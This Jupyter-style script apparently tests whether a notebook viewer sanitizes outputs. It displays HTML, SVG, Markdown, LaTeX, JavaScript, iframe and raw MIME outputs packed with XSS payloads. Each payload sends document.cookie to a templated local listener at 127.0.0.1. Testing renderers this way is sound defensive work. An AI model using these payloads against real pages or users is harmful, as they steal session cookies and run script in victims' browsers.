"""Runs scripts in the page of whoever looks at it: outputs and texts that send what they see to a server."""
# deserves: 0 0 0 0
# %% after imports
from IPython.display import HTML, IFrame, Javascript, Latex, Markdown, SVG, display
send = "new Image().src='http://127.0.0.1:{{TCP}}/?'+document.cookie"
for shown in (
    HTML(f"<script>{send}</script><img src=x onerror=\"{send}\"><svg onload=\"{send}\"></svg><a href=\"javascript:{send}\">x</a>"),
    HTML(f"<table><tr><td><style>@import 'http://127.0.0.1:{{TCP}}/';</style><form action='http://127.0.0.1:{{TCP}}/'><input autofocus onfocus=\"{send}\">"),
    HTML(f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={send}&gt;\">"),
    Javascript(send),
    SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{send}\"><script>{send}</script><foreignObject><img src='x'/></foreignObject></svg>"),
    Markdown(f"[x](javascript:{send}) <script>{send}</script> ![x](http://127.0.0.1:{{TCP}}/x.png)"),
    Latex(rf"$\href{{javascript:{send}}}{{x}} \unicode{{x}} \require{{html}}$"),
    IFrame("http://127.0.0.1:{{TCP}}/", 100, 100),
):
    display(shown)
display({"text/html": f"<script>{send}</script>"}, metadata={"text/html": {"isolated": True}}, raw=True)
display({"image/png": "iVBORw0KGgo="}, metadata={"image/png": {"width": f"1 onerror={send}", "filenames": {"image/png": "x"}}, "filenames": {"image/png": "gradient_checking.ipynb"}}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "x"}, raw=True)
# %% markdown after imports
<script>new Image().src='http://127.0.0.1:{{TCP}}/'</script> <img src=x onerror="new Image().src='http://127.0.0.1:{{TCP}}/'">
[x](javascript:alert(1)) <http://127.0.0.1:{{TCP}}/> $\href{javascript:alert(1)}{x}$ $\h&#114;ef{javascript:alert(1)}{x}$

```mermaid
graph TD; A-->B; click A href "javascript:alert(1)"
```

# statusmessage
